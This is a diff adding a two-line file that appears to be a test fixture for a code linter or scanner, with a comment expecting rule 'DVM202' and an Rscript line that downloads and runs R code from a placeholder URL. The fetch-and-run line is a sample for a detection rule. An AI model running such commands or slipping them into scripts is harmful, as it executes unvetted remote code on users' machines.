@@ -1,0 +1,2 @@
+# expect: DVM202
+Rscript -e 'source("https://example.org/a.R")'
